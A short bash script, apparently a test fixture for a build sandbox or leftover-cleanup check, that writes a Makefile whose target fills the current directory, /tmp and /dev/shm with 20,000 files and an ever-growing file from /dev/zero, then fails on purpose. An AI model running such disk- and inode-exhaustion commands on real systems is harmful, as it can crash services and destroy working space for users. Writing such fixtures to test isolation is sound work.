#!/usr/bin/env bash
cat >"$1/Makefile" <<M
tell:
	-for to in . /tmp /dev/shm; do (mkdir \$\$to/$LEFTOVER && cd \$\$to/$LEFTOVER && seq 20000 | xargs touch; cat /dev/zero >large) 2>/dev/null; done
	false
M
